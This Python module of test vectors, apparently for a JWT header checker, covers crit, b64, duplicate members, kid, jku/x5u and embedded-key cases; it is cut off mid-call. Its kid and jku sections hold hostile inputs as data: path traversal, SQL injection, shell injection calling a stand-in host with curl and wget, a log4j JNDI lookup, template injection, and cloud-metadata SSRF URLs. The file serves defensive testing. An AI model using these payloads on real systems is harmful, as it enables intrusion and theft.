# SPDX-License-Identifier: Apache-2.0
"""Headers that a reader must refuse: critical extensions, unencoded payloads out of place, members that stand twice."""

import hashlib
import json

from .corpus import given, vector
from .keys import b64url, pub, thumbprint, unb64url
from .tokens import (HOUSE, Token, at, compact_json, detached, flattened, flattened_with, general, house, id_v2, rewritten, uti, v1, v2)

JUNE = "2026-06-01"
KEY = pub("house-rsa")
CLAIMS = {"iss": HOUSE, "sub": "robin", "aud": "payroll", "iat": at(JUNE), "exp": at(JUNE) + 3600}


def message(payload=b"hello-world", head=None, **options):
    """Something signed that is no JWT."""
    return Token({"alg": "RS256", "kid": "house-2026", **(head or {})}, payload, "house-rsa", **options)


def header_text(text, **claims):
    """A company's token whose header ends in these members, as they are written here."""
    return rewritten(house("house-rsa", "RS256", **claims), "header", b'"kid":"house-2026"}', b'"kid":"house-2026",' + text.encode() + b"}")


def payload_text(text, **claims):
    return rewritten(house("house-rsa", "RS256", **claims), "payload", b'"scope":"read"}', b'"scope":"read",' + text.encode() + b"}")


# ---- crit

CRITICAL = (("", '"crit":["b65"],"b65":true', "An extension that nobody knows"),
            ("-bank", '"crit":["http://openbanking.org.uk/iat","b65"],"http://openbanking.org.uk/iat":1780272000,"b65":1',
             "An extension of a community, and one that nobody knows"),
            ("-bank-twice", '"crit":["sigT","sigT"],"sigT":"2026-06-01T00:00:00Z"', "An extension of a community, twice"),
            ("-bank-case", '"crit":["sigt"],"sigt":"2026-06-01T00:00:00Z"', "An extension of a community in other letters"),
            ("-bank-absent", '"crit":["http://openbanking.org.uk/iat"]', "An extension of a community that is not in the header"),
            ("-claim", '"crit":["exp"],"exp":1780275600', "A claim in the header: an extension that nobody defined"),
            ("-empty", '"crit":[]', "An empty list, which must not be"),
            ("-twice", '"crit":["b64","b64"],"b64":true', "One name twice"),
            ("-standard", '"crit":["alg"]', "A member of the standard itself"),
            ("-standard-kid", '"crit":["b64","kid"],"b64":true', "An extension that is known, and a member of the standard"),
            ("-absent", '"crit":["b64"]', "An extension that is known, but is not in the header"),
            ("-one-of-two", '"crit":["b64","b65"],"b64":true,"b65":1', "One extension that is known, and one that is not"),
            ("-text", '"crit":"b64","b64":true', "A string in place of the list"),
            ("-object", '"crit":{"b64":true},"b64":true', "An object in place of the list"),
            ("-null", '"crit":null', "null in place of the list"),
            ("-true", '"crit":true', "true in place of the list"),
            ("-number-in-it", '"crit":[64]', "A number in the list"),
            ("-null-in-it", '"crit":["b64",null],"b64":true', "null in the list"),
            ("-case", '"crit":["B64"],"B64":true', "Names are compared exactly: B64 is not b64"),
            ("-no-name", '"crit":[""],"":1', "An empty name"))
for case, text, about in CRITICAL:
    given(f"hdr/hdr-crit{case}-found", about, header_text(text), "invalid", KEY, signature=None, found="HDR-CRIT", absent="HDR-DUP FMT-JSON-EXT",
          seed=case == "-twice")
vector("hdr/hdr-crit-no-key-found", "An extension that nobody knows, and no key at hand", header_text('"crit":["b65"],"b65":true'), "invalid",
       signature=None, found="HDR-CRIT", history=None)
vector("hdr/hdr-crit-microsoft-found", "The same in an enterprise token that its issuer's key signed",
       v2(JUNE, "ent-current", head={"crit": ["urn:example:channel"], "urn:example:channel": "bound"}), "invalid", signature=None, found="HDR-CRIT")
given("hdr/hdr-crit-unprotected-found", "crit outside the protected header, where anybody can take it away",
      message(compact_json(CLAIMS), wrap=flattened_with(crit=["b65"], b65=True)), "invalid", KEY, signature=None, found="HDR-CRIT")
vector("hdr/hdr-crit-clear", "An ordinary enterprise token", v1(JUNE, "ent-current"), "valid", absent="HDR-CRIT HDR-B64 HDR-DUP")
for case, text, about in (("bank", '"crit":["b64","http://openbanking.org.uk/iat","http://openbanking.org.uk/iss","http://openbanking.org.uk/tan"],"b64":true,'
                           '"http://openbanking.org.uk/iat":1780272000,"http://openbanking.org.uk/iss":"CN=corp",'
                           '"http://openbanking.org.uk/tan":"openbanking.org.uk"', "What open banking in the United Kingdom demands"),
                          ("jades", '"crit":["sigT","sigD"],"sigT":"2026-06-01T00:00:00Z","sigD":{}', "What JAdES demands")):
    given(f"hdr/hdr-crit-{case}-near", about, header_text(text), "valid", KEY, found="HDR-CRIT", opinion="")
given("hdr/hdr-crit-near", "The one extension that is known, in a message whose payload is encoded all the same",
      message(head={"crit": ["b64"], "b64": True}), "valid", KEY, absent="HDR-CRIT HDR-B64")
given("hdr/hdr-crit-jwt-near", "The same in a JWT", header_text('"crit":["b64"],"b64":true'), "valid", KEY, absent="HDR-CRIT")
given("hdr/hdr-crit-claim-near", "A claim called crit", house("house-rsa", "RS256", crit=["b65"]), "valid", KEY, absent="HDR-CRIT")
given("hdr/hdr-crit-unlisted-near", "A private member of the header that no crit lists may be passed over (RFC 7515 section 4)",
      header_text('"urn:example:channel":"bound"'), "valid", KEY, absent="HDR-CRIT")

# ---- b64


def unencoded(head, payload=b"hello-world", **options):
    return message(payload, head, b64=False, **options)


given("hdr/hdr-b64-found", "An unencoded payload, and no crit that says so", unencoded({"b64": False}), "invalid", KEY, signature=None,
      found="HDR-B64", absent="HDR-CRIT", seed=True)
given("hdr/hdr-b64-encoded-found", "b64 says false, crit does not say so, and the payload is encoded as ever", message(head={"b64": False}),
      "invalid", KEY, signature=None, found="HDR-B64")
given("hdr/hdr-b64-detached-found", "A detached payload that is not encoded, and no crit that says so",
      unencoded({"b64": False}, b"hello-world", wrap=detached), "invalid", KEY, signature=None, payload="hello-world", found="HDR-B64")
given("hdr/hdr-b64-jwt-found", "An unencoded payload within a JWT, which must not be (RFC 7797 section 7)",
      unencoded({"typ": "JWT", "b64": False, "crit": ["b64"]}, compact_json({**CLAIMS, "iss": "house"})), "invalid", KEY, signature=None,
      found="HDR-B64", absent="HDR-CRIT")
for typ in ("at+jwt", "application/secevent+jwt", "dc+sd-jwt", "Logout+JWT"):
    given(f"hdr/hdr-b64-{typ.lower().translate(str.maketrans('/+', '--'))}-found", "The same in a JWT whose type says which, encoded or not",
          unencoded({"typ": typ, "b64": False, "crit": ["b64"]}, b64url(compact_json(CLAIMS)).encode()), "invalid", KEY, signature=None,
          found="HDR-B64", absent="HDR-CRIT")
given("hdr/hdr-b64-jose-claims-found", "Claims of a JWT that are not encoded, in the flattened JSON form, and a type that says nothing of them",
      unencoded({"typ": "JOSE+JSON", "b64": False, "crit": ["b64"]}, compact_json({**CLAIMS, "iss": "house"}), wrap=flattened), "invalid", KEY, signature=None,
      found="HDR-B64", absent="HDR-CRIT")
ORDER = compact_json({"Data": {"amount": "16500"}, "Risk": {}})
for typ, wrap, about in (("JOSE", None, "compact, JOSE"), (None, None, "compact"), ("JOSE", flattened, "flattened, JOSE"),
                         ("application/JOSE+JSON", flattened, "flattened, JOSE+JSON"), (None, flattened, "flattened")):
    given(f"hdr/hdr-b64-order-{about.lower().translate(str.maketrans({',': None, ' ': '-', '+': '-'}))}-near",
          f"A message in JSON that is no JWT, not encoded ({about})",
          unencoded({**({"typ": typ} if typ else {}), "b64": False, "crit": ["b64"]}, ORDER, **({"wrap": wrap} if wrap else {})), "valid", KEY,
          absent="HDR-B64 HDR-CRIT CLM-NOEXP FMT-JSON")
for case, value, about in (("-text", '"false"', "A string in place of false"), ("-number", "0", "A number in place of false"),
                           ("-null", "null", "null in place of false")):
    given(f"hdr/hdr-b64{case}-found", about, rewritten(message(head={"crit": ["b64"], "b64": True}), "header", b'"b64":true',
                                                       b'"b64":' + value.encode()),
          "invalid", KEY, signature=None, found="HDR-B64", absent="FMT-JSON-EXT")
given("hdr/hdr-b64-unprotected-found", "b64 outside the protected header, where anybody can change it",
      message(wrap=flattened_with(b64=False)), "invalid", KEY, signature=None, found="HDR-B64")
given("hdr/hdr-b64-differs-found", "Two signatures of one message that differ in b64, which must not be (RFC 7797 section 3)",
      Token({"alg": "EdDSA", "kid": "house-ed25519"}, b"hello-world", "house-ed25519",
            wrap=general(Token({"alg": "RS256", "kid": "house-2026", "b64": False, "crit": ["b64"]}, b"hello-world", "house-rsa"))),
      "invalid", pub("house-ed25519"), KEY, signature=None, found="HDR-B64")
given("hdr/hdr-b64-clear", "A message with an encoded payload", Token({"alg": "PS256", "kid": "house-2026"}, b"hello-world", "house-rsa"),
      "valid", KEY, absent="HDR-B64 HDR-CRIT")
given("hdr/hdr-b64-near", "An unencoded payload in a message that is no JWT, and crit says so",
      unencoded({"b64": False, "crit": ["b64"]}, b"a+b/c==: it's no token"), "valid", KEY, absent="HDR-B64 HDR-CRIT FMT-B64 FMT-SEG")
given("hdr/hdr-b64-true-near", "true is what holds without it: without crit it is worth a word, no more", header_text('"b64":true'), "valid", KEY,
      found="HDR-B64", absent="HDR-CRIT")
given("hdr/hdr-b64-claim-near", "A claim called b64", payload_text('"b64":false'), "valid", KEY, absent="HDR-B64")
given("hdr/hdr-b64-flattened-near", "An unencoded payload in the flattened JSON form",
      unencoded({"b64": False, "crit": ["b64"]}, b"to: robin", wrap=flattened), "valid", KEY, absent="HDR-B64 HDR-CRIT FMT-B64")

# ---- members that stand twice

given("hdr/hdr-dup-found", "kid stands twice: readers differ in which they take", header_text('"kid":"1"'), "invalid", KEY, signature=None,
      found="HDR-DUP", absent="FMT-JSON-EXT", seed=True)
given("hdr/hdr-dup-alg-found", "alg stands twice: RS256 and none", header_text('"alg":"none"'), "invalid", KEY, signature=None, found="HDR-DUP")
given("hdr/hdr-dup-same-value-found", "typ stands twice with one value", header_text('"typ":"JWT"'), "invalid", KEY, signature=None,
      found="HDR-DUP")
given("hdr/hdr-dup-escaped-found", "alg stands twice, the second time behind a JSON escape", header_text('"\\u0061lg":"HS256"'), "invalid", KEY,
      signature=None, found="HDR-DUP")
given("hdr/hdr-dup-nested-found", "A name stands twice deep inside the header", header_text('"jwk_ref":{"n":[{"x":1,"x":2}]}'), "invalid", KEY,
      signature=None, found="HDR-DUP")
given("hdr/hdr-dup-private-found", "A member that nobody knows stands twice", header_text('"note":1,"other":2,"note":3'), "invalid", KEY,
      signature=None, found="HDR-DUP")
given("hdr/hdr-dup-claim-found", "sub stands twice: one reader checks Robin, another acts on admin", payload_text('"sub":"admin"'), "invalid", KEY,
      signature=None, found="HDR-DUP")
given("hdr/hdr-dup-claim-exp-found", "exp stands twice", payload_text('"exp":4102444800'), "invalid", KEY, signature=None, found="HDR-DUP")
given("hdr/hdr-dup-claim-nested-found", "A name stands twice inside a claim",
      payload_text('"realm_access":{"roles":["user"],"roles":["admin"]}'), "invalid", KEY, signature=None, found="HDR-DUP")
given("hdr/hdr-dup-claim-escaped-found", "iss stands twice, the second time behind a JSON escape",
      payload_text('"\\u0069ss":"https://id.other.example"'), "invalid", KEY, signature=None, found="HDR-DUP")
vector("hdr/hdr-dup-microsoft-found", "tid stands twice in an enterprise token that its issuer's key signed",
       rewritten(v2(JUNE, "ent-current"), "payload", b'"ver":"2.0"}', b'"ver":"2.0","tid":"c2b8e4d0-1a57-4f3c-9d66-0e7f5b2a8c94"}'), "invalid",
       signature=None, found="HDR-DUP")
given("hdr/hdr-dup-headers-found", "The protected and the unprotected header share a name (RFC 7515 section 7.2.1)",
      message(compact_json(CLAIMS), wrap=flattened_with(kid="1")), "invalid", KEY, signature=None, found="HDR-DUP")
given("hdr/hdr-dup-form-found", "The JSON form holds two payloads",
      house("house-rsa", "RS256", wrap=lambda text: flattened(text)[:-1] + ', "payload": "' + text.split(".")[1] + '"}'), "invalid", KEY,
      signature=None, found="HDR-DUP")
vector("hdr/hdr-dup-clear", "An ordinary ID token", id_v2(JUNE, "ent-current"), "valid", absent="HDR-DUP")
given("hdr/hdr-dup-near", "One name in two objects", payload_text('"act":{"sub":"robin","act":{"sub":"robin"}}'), "valid", KEY, absent="HDR-DUP")
given("hdr/hdr-dup-list-near", "One name in each object of a list", payload_text('"items":[{"id":1},{"id":1},{"id":1}]'), "valid", KEY,
      absent="HDR-DUP")
given("hdr/hdr-dup-value-near", "A value that reads like a name that is there",
      payload_text('"label":"\\"sub\\":\\"admin\\"","also":["sub","sub"]'), "valid", KEY, absent="HDR-DUP FMT-JSON-EXT")
given("hdr/hdr-dup-replicated-near", "iss and aud in the header too (RFC 7519 section 5.3)",
      header_text(f'"iss":"{HOUSE}","aud":"payroll"'), "valid", KEY, absent="HDR-DUP")
given("hdr/hdr-dup-many-near", "Three hundred claims, all different", payload_text(json.dumps({f"c{i}": i for i in range(300)})[1:-1]),
      "valid", KEY, absent="HDR-DUP FMT-JSON-EXT")
given("hdr/hdr-dup-many-found", "Three hundred claims, and the last is called as the first",
      payload_text(json.dumps({f"c{i}": i for i in range(300)})[1:-1]
                                                                                                    + ',"c0":1'), "invalid", KEY, signature=None,
      found="HDR-DUP")
given("hdr/hdr-dup-empty-name-found", "The empty name stands twice", payload_text('"":1,"":2'), "invalid", KEY, signature=None, found="HDR-DUP")
given("hdr/hdr-dup-unlike-near", "Names that look alike and are written otherwise: one with an accent, composed and not",
      payload_text('"name\\u00e9":1,"namee\\u0301":2'), "valid", KEY, absent="HDR-DUP")

# ---- what a kid would do to a look-up


def named(kid, **options):
    """A company's token with this kid."""
    return house("house-rsa", "RS256", head={"kid": kid}, **options)


def kid_found(name, kid, about, id, **members):
    given(f"hdr/{name}-found", about, named(kid), "suspicious", pub("house-rsa", kid=None), found=id, **members)


PATHS = (("", "../../../../dev/null", "Steps up to a file that is empty"), ("-device", "/dev/null", "The file that is always empty"),
         ("-passwords", "/etc/hostname", "A file whose content is known"), ("-inside", "keys/../../public/logo.png", "A step up inside a path"),
         ("-backslash", "keys\\..\\..\\web.config", "Steps up as Windows writes them"), ("-encoded", "..%2f..%2fdev%2fnull", "Behind percent-encoding"),
         ("-encoded-twice", "..%252f..%252fdev%252fnull", "Behind two layers of percent-encoding"), ("-end", "keys/..", "A step up at the end"),
         ("-nul", "house-2026\0.pem", "A NUL, at which readers in C end"), ("-nul-encoded", "house-2026%00.pem", "A NUL behind percent-encoding"),
         ("-scheme", "file:///proc/sys/kernel/randomize_va_space", "The address of a file"), ("-drive", "C:\\Windows\\win.ini", "A path with a drive"),
         ("-share", "\\\\203.0.113.7\\keys\\1", "A share on somebody's server"))
for case, kid, about in PATHS:
    kid_found(f"hdr-kid-trav{case}", kid, about, "HDR-KID-TRAV", absent="HDR-KID-SQL HDR-KID-CMD", seed=not case)
QUERIES = (("", "x' UNION SELECT 'secret' -- ", "A union that brings its own secret"), ("-or", "1' OR '1'='1", "A condition that is always true"),
           ("-number", "1 or 1=1", "The same where the query holds a number"), ("-comment", "house-2026'--", "The end of a statement"),
           ("-next", "x'; DROP TABLE keys", "A second statement"), ("-quotes", 'x" or ""="', "The other quotation mark"),
           ("-bracket", "x') union all select 1", "Behind a bracket"), ("-encoded", "x%27%20or%20%271%27%3D%271", "Behind percent-encoding"),
           ("-time", "x' and sleep(9)#", "A query that waits"))
for case, kid, about in QUERIES:
    kid_found(f"hdr-kid-sql{case}", kid, about, "HDR-KID-SQL", absent="HDR-KID-TRAV HDR-KID-CMD", seed=not case)
COMMANDS = (("", "house-2026|curl 203.0.113.7", "A second program"), ("-semicolon", "key;id", "A second program behind a semicolon"),
            ("-line", "key\nwget 203.0.113.7", "A second line"), ("-and", "key && sleep 9", "A program behind a program"),
            ("-pipe", "|/bin/bash -c x", "What opens a file in Ruby starts a program"), ("-dollar", "key$(whoami)", "A program inside a word"),
            ("-tick", "key`whoami`", "The older form of it"), ("-filter", "*)(uid=*", "The end of an LDAP filter and a wider one"),
            ("-filter-or", "x)(|(cn=*", "The end of an LDAP filter and a choice"), ("-lookup", "${jndi:ldap://203.0.113.7/a}", "A look-up of log4j"),
            ("-template", "{{7*7}}", "An expression of a template"), ("-template-java", "#{T(java.lang.Runtime)}", "An expression of Spring"),
            ("-template-erb", "<%= 7*7 %>", "An expression of ERB"), ("-metadata", "http://169.254.169.254/latest/meta-data", "The metadata of a cloud"),
            ("-gopher", "gopher://127.0.0.1:6379/_x", "A scheme that reaches databases"))
for case, kid, about in COMMANDS:
    kid_found(f"hdr-kid-cmd{case}", kid, about, "HDR-KID-CMD", absent="HDR-KID-TRAV HDR-KID-SQL", seed=not case)
given("hdr/hdr-kid-cmd-placeholder-near", "A placeholder that a deployment forgot to fill in is low", named("${KEY_ID}"), "valid",
      pub("house-rsa", kid="${KEY_ID}"), found="HDR-KID-CMD")
for case, kid in (("trav-listed", "/etc/ssl/jwt/key1.pem"), ("sql-listed", "1' OR '1'='1"), ("cmd-listed", "http://localhost:8080/keys/1")):
    given(f"hdr/hdr-kid-{case}-near", "The key that verifies it is listed under this name: its owner chose it", named(kid), "valid",
          pub("house-rsa", kid=kid), found=f"HDR-KID-{case.split('-')[0].upper()}")
HONEST_KIDS = (("", "keys/2024-01"), ("-thumbprint", "q-23falevZhhD3hm9CQbkP5MQyU"), ("-guid", "{7D0C1F6A-93B5-4E02-8C4B-5A1E0D9B6F21}"),
               ("-arn", "arn:aws:kms:eu-central-1:111122223333:key/7d0c1f6a-93b5-4e02-8c4b-5a1e0d9b6f21"), ("-did", "did:web:corp.example#key-1"),
               ("-did-long", "did:key:z6MkExample#z6MkExample"), ("-url", "https://id.corp.example/keys/1?version=2&use=sig#k;v=1"),
               ("-vault", "https://corp.vault.example/keys/sign/7d0c1f6a93b5"), ("-spaces", "Payroll signing key (2026), Robin & Kim"),
               ("-apostrophe", "Robin O'Hara's key"), ("-apostrophes", "the kids' and the parents' key"), ("-quotes", 'the "new" key -- 2026'),
               ("-base64", "/etA+b/cD=="), ("-dots", "v1..2/key...old"), ("-names", "select/union/or-1/drop"), ("-percent", "100%25 sure"),
               ("-subject", "auth0|5f7c8ec7c33c6c004bbafe82"), ("-path", "/keys/payroll/1"), ("-sh", "key;v=1|sig.id"), ("-braces", "{key}-[1]<2>"),
               ("-money", "$1:payroll"), ("-empty", ""), ("-number", "1"), ("-letters", "schlüssel-山田"))
for case, kid in HONEST_KIDS:
    given(f"hdr/hdr-kid-trav{case}-near", f"Some name keys like this: {kid or 'not at all'}", named(kid), "valid", pub("house-rsa", kid=kid),
          absent="HDR-KID-TRAV HDR-KID-SQL HDR-KID-CMD HDR-KID-TYPE")
given("hdr/hdr-kid-sql-near", "An apostrophe in a name", named("Robin O'Hara; or Kim"), "valid", pub("house-rsa", kid="Robin O'Hara; or Kim"),
      absent="HDR-KID-SQL")
given("hdr/hdr-kid-cmd-near", "A scheme and marks that are nobody's command", named("urn:key;id=5|a&b"), "valid",
      pub("house-rsa", kid="urn:key;id=5|a&b"), absent="HDR-KID-CMD")
for id in ("trav", "sql", "cmd", "type"):
    vector(f"hdr/hdr-kid-{id}-clear", "An ordinary enterprise token", v1(JUNE, "ent-current"), "valid", absent=f"HDR-KID-{id.upper()}")
for case, value in (("", 1), ("-null", None), ("-list", ["house-2026"]), ("-object", {"$ne": ""}), ("-true", True)):
    given(f"hdr/hdr-kid-type{case}-found", "A kid that is no string", rewritten(house("house-rsa", "RS256"), "header", b'"kid":"house-2026"',
                                                                                b'"kid":' + compact_json(value)),
          "invalid", KEY, signature=None, found="HDR-KID-TYPE", absent="HDR-KID-TRAV HDR-KID-SQL HDR-KID-CMD")
given("hdr/hdr-kid-type-near", "A number with its quotes", named("1"), "valid", pub("house-rsa", kid="1"), absent="HDR-KID-TYPE")

# ---- members out of place

given("hdr/hdr-zip-jws-found", "A signed token that says its payload is compressed, which it is not", header_text('"zip":"DEF"'), "invalid", KEY,
      signature=None, found="HDR-ZIP-JWS", seed=True)
given("hdr/hdr-zip-jws-other-found", "An algorithm of compression that is not defined", header_text('"zip":"GZ"'), "invalid", KEY, signature=None,
      found="HDR-ZIP-JWS")
given("hdr/hdr-zip-jws-number-found", "zip is a number", header_text('"zip":1'), "invalid", KEY, signature=None, found="HDR-ZIP-JWS")
vector("hdr/hdr-zip-jws-clear", "An ordinary enterprise token", v2(JUNE, "ent-current"), "valid", absent="HDR-ZIP-JWS HDR-CTY HDR-UNK HDR-SIZE")
given("hdr/hdr-zip-jws-health-near", "A SMART Health Card: its payload is compressed by a specification of its own",
      Token({"zip": "DEF", "alg": "RS256", "kid": "house-2026"},
            bytes.fromhex("3dcb3b0a80301005c0bb3c5b8dd146d9ab88458c91087e42761125787711c1728a49989941f02281a92ce751d93d06e54eb386c521c7364ca0aa"
                          "6975ddd45aeb1c870525c8151ca8fb23af268a776611afac8923671f8a17e8effb01"), "house-rsa"), "valid", KEY, found="HDR-ZIP-JWS")
given("hdr/hdr-zip-jws-near", "A claim called zip", payload_text('"zip":"12345"'), "valid", KEY, absent="HDR-ZIP-JWS")
given("hdr/hdr-cty-found", "The payload is said to be a JWT, and holds claims", header_text('"cty":"JWT"'), "valid", KEY, found="HDR-CTY", seed=True)
given("hdr/hdr-cty-message-found", "The payload is said to be a JWT, and is a text", message(head={"cty": "jwt"}), "valid", KEY, found="HDR-CTY")
given("hdr/hdr-cty-clear", "A token that says nothing of its content", house("house-rsa", "RS256"), "valid", KEY, absent="HDR-CTY")
given("hdr/hdr-cty-near", "A token that holds a token, and says so",
      message(house("house-rsa", "RS256").make(None)[0].encode(), {"cty": "JWT"}), "valid", KEY, absent="HDR-CTY")
given("hdr/hdr-cty-unsecured-found", "A good signature around a token that nobody signed",
      message(house(None, "none", sub="admin").make(None)[0].encode(), {"cty": "JWT"}), "invalid", KEY, found="HDR-CTY")
given("hdr/hdr-cty-forged-near", "A good signature around a token whose own one fails: its verdict is that of the token inside",
      message(house("house-rsa", "RS256", edited={"sub": "admin"}).make(None)[0].encode(), {"cty": "JWT"}), "invalid", KEY, absent="HDR-CTY SIG-BAD")
given("hdr/hdr-cty-unknown-near", "A good signature around a token of somebody whose key is not at hand",
      message(house("house-ed25519", "EdDSA").make(None)[0].encode(), {"cty": "JWT"}), "unverified", KEY, absent="HDR-CTY SIG-BAD")
given("hdr/hdr-cty-other-near", "Content of another kind", message(head={"cty": "text/plain"}), "valid", KEY, absent="HDR-CTY")
given("hdr/hdr-unk-found", "A member that nobody knows", header_text('"channel":"a7"'), "valid", KEY, found="HDR-UNK")
given("hdr/hdr-unk-several-found", "Several, one of them in another case than the registered one", header_text('"X5T":"a7","channel":1'), "valid", KEY,
      found="HDR-UNK")
given("hdr/hdr-unk-clear", "A header of the three usual members", house("house-rsa", "RS256"), "valid", KEY, absent="HDR-UNK")
given("hdr/hdr-unk-near", "Members that known software writes",
      header_text(f'"nonce":"n","ctx":"Y3R4","kdf_ver":2,"url":"https://id.corp.example/","iss":"{HOUSE}","client":"c","signer":"s","exp":1780275600'),
      "valid", KEY, absent="HDR-UNK")
given("hdr/hdr-size-found", "Seventeen kilobytes in the header", header_text('"channel":"' + "a" * 17000 + '"'), "valid", KEY, found="HDR-SIZE")
given("hdr/hdr-size-edge-found", "One member more than are usual", header_text(json.dumps({f"c{i}": i for i in range(62)})[1:-1]), "valid", KEY,
      found="HDR-SIZE")
given("hdr/hdr-size-deep-found", "One level more than is usual", header_text('"channel":' + "[" * 8 + "1" + "]" * 8), "valid", KEY, found="HDR-SIZE")
given("hdr/hdr-size-clear", "A header of the three usual members", house("house-rsa", "RS256"), "valid", KEY, absent="HDR-SIZE")
given("hdr/hdr-size-near", "As many members as are usual", header_text(json.dumps({f"c{i}": i for i in range(61)})[1:-1]), "valid", KEY,
      absent="HDR-SIZE")
given("hdr/hdr-size-deep-near", "As many levels as are usual", header_text('"channel":' + "[" * 7 + "1" + "]" * 7), "valid", KEY, absent="HDR-SIZE")
given("hdr/hdr-size-chain-near", "Federation statements are long by nature", header_text('"trust_chain":["' + "a" * 17000 + '"]'), "valid", KEY,
      absent="HDR-SIZE HDR-UNK")

# ---- where a key would be fetched from

STRANGER = pub("idp")
ADDRESSES = (("", "https://keys.attacker.example/jwks.json", "Another host"),
             ("-suffix", "https://id.corp.example.attacker.example/keys", "A host that only begins like the issuer's"),
             ("-user", "https://id.corp.example@attacker.example/keys", "The issuer's host as a user's name"),
             ("-user-twice", "https://a@id.corp.example:x@attacker.example/keys", "Two users' names"),
             ("-backslash", "https://attacker.example\\@id.corp.example/keys", "A backslash, which browsers take for a slash"),
             ("-http", "http://attacker.example/keys", "No https"), ("-file", "file:///etc/keys", "The address of a file"),
             ("-address", "https://203.0.113.7/keys", "A number in place of a name"), ("-address-6", "https://[2001:db8::7]/keys", "A long number"),
             ("-address-decimal", "https://3405803783/keys", "The same in one number"),
             ("-metadata", "http://169.254.169.254/latest", "The metadata of a cloud"), ("-inside", "https://vault/keys", "A host inside"),
             ("-redirect", "https://id.corp.example/go?to=https://attacker.example/keys", "An open redirect of the issuer"),
             ("-redirect-path", "https://id.corp.example//attacker.example/keys", "The same in the path"),
             ("-redirect-encoded", "https://id.corp.example/go?to=https%3A%2F%2Fattacker.example", "The same, encoded"),
             ("-space", "https://id.corp.example /keys", "White space"), ("-empty", "", "Nothing"), ("-list", ["https://id.corp.example/keys"], "A list"))
for member in ("jku", "x5u"):
    for case, address, about in ADDRESSES:
        given(f"hdr/hdr-{member}{case}-found", f"{member}: {about}", house("house-rsa", "RS256", head={member: address}), "suspicious", STRANGER,
              signature=None, found=f"HDR-{member.upper()}", seed=not case)
    for case, address in (("", f"{HOUSE}/keys"), ("-port", f"{HOUSE}:8443/keys?kid=1#now"), ("-case", "HTTPS://ID.Corp.Example/keys")):
        given(f"hdr/hdr-{member}{case}-near", f"{member} leads to the issuer", house("house-rsa", "RS256", head={member: address}), "unverified",
              STRANGER, signature=None, absent=f"HDR-{member.upper()}")
    given(f"hdr/hdr-{member}-below-near", f"{member} leads to a host below the issuer's: a note",
          house("house-rsa", "RS256", head={member: "https://keys.id.corp.example/1"}), "unverified", STRANGER, signature=None,
          found=f"HDR-{member.upper()}")
    given(f"hdr/hdr-{member}-signed-near", f"{member} leads to another domain, and a key of the issuer signed it: a note",
          house("house-rsa", "RS256", head={member: "https://keys.corp-cdn.example/1"}), "valid", KEY, found=f"HDR-{member.upper()}")
    given(f"hdr/hdr-{member}-dev-near", f"A developer's own machine, which names itself: {member}",
          house("house-rsa", "RS256", head={member: "http://localhost:8080/keys"}, iss="http://localhost:8080/id"), "unverified", STRANGER,
          signature=None, absent=f"HDR-{member.upper()}")
    given(f"hdr/hdr-{member}-name-near", f"An issuer that is no address: nothing can be compared with {member}",
          house("house-rsa", "RS256", head={member: "https://keys.corp.example/1"}, iss="payroll"), "unverified", STRANGER, signature=None,
          unknown=f"HDR-{member.upper()}")
    given(f"hdr/hdr-{member}-clear", "An ordinary token", house("house-rsa", "RS256"), "valid", KEY, absent=f"HDR-{member.upper()}")

# ---- keys that a token brings along

OWN = pub("house-p256", kid=None)
OWN_X5C = {"x5c": pub("ent-unlisted")["x5c"]}
PUBLISHED = pub("house-rsa", issuer=HOUSE)

given("hdr/hdr-jwk-found", "The key in the header signed it, and the issuer's key that it names did not (CVE-2018-0114)",
      house("idp", "RS256", head={"kid": "house-2026", "jwk": pub("idp")}), "forged", PUBLISHED, signature="failed", found="HDR-JWK", seed=True)
vector("hdr/hdr-jwk-microsoft-found", "An enterprise token that names a key of its issuer and carries another",
       id_v2(JUNE, "ent-unlisted", head={"kid": pub("ent-current")["kid"], "jwk": pub("ent-unlisted", x5c=None)}), "forged", signature="failed",
       found="HDR-JWK")
given("hdr/hdr-jwk-private-found", "The key in the header is there with its private part",
      house("house-p256", "ES256", head={"jwk": {**OWN, "d": "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAE"}}), "suspicious", signature=None,
      found="HDR-JWK")
given("hdr/hdr-jwk-unknown-near", "It verifies under its own key, and nobody knows the issuer's: self-asserted",
      house("house-p256", "ES256", head={"kid": None, "jwk": OWN}), "unverified", signature="unverified", found="HDR-JWK")
given("hdr/hdr-jwk-same-near", "The key in the header is the issuer's own", house("house-rsa", "RS256", head={"jwk": pub("house-rsa")}), "valid",
      PUBLISHED, absent="HDR-JWK")
given("hdr/hdr-jwk-clear", "An ordinary token", house("house-rsa", "RS256"), "valid", PUBLISHED, absent="HDR-JWK HDR-X5C HDR-X5T")
vector("hdr/hdr-x5c-found", "An enterprise token that names a key of its issuer and carries the certificate of another",
       id_v2(JUNE, "ent-unlisted", head={"kid": pub("ent-current")["kid"], "x5t": None, **OWN_X5C}), "forged", signature="failed",
       found="HDR-X5C", absent="HDR-X5T", seed=True)
given("hdr/hdr-x5c-unknown-near", "It verifies under its own certificate, and nobody knows the issuer's keys",
      house("ent-unlisted", "RS256", head={"kid": None, **OWN_X5C}), "unverified", signature="unverified", found="HDR-X5C")
given("hdr/hdr-x5c-client-near", "A client that speaks for itself shows its certificate: a note",
      house("ent-unlisted", "RS256", head={"kid": None, "x5t": pub("ent-unlisted")["x5t"], **OWN_X5C}, iss="robin", sub="robin"), "unverified",
      signature="unverified", found="HDR-X5C", absent="HDR-X5T")
given("hdr/hdr-x5c-clear", "A certificate that is none", house("house-rsa", "RS256", head={"x5c": ["AAAA"]}), "valid", PUBLISHED,
      absent="HDR-X5C HDR-X5T")
given("hdr/hdr-x5t-found", "x5t is the digest of another certificate than x5c begins with",
      house("ent-unlisted", "RS256", head={"kid": None, "x5t": pub("ent-current")["x5t"], **OWN_X5C}), "suspicious", signature=None,
      found="HDR-X5T", seed=True)
given("hdr/hdr-x5t-hexadecimal-near", "x5t is the right digest in hexadecimal, encoded once more",
      house("ent-unlisted", "RS256", head={"kid": None, "x5t": b64url(unb64url(pub("ent-unlisted")["x5t"]).hex().upper().encode()), **OWN_X5C}),
      "unverified", signature=None, absent="HDR-X5T")
given("hdr/hdr-x5t-padded-near", "x5t is the right digest with padding",
      house("ent-unlisted", "RS256", head={"kid": None, "x5t": pub("ent-unlisted")["x5t"] + "=", **OWN_X5C}), "unverified", signature=None,
      absent="HDR-X5T")
given("hdr/hdr-x5t-clear", "x5t alone, as Microsoft's tokens have it", house("house-rsa", "RS256", head={"x5t": pub("ent-current")["x5t"]}),
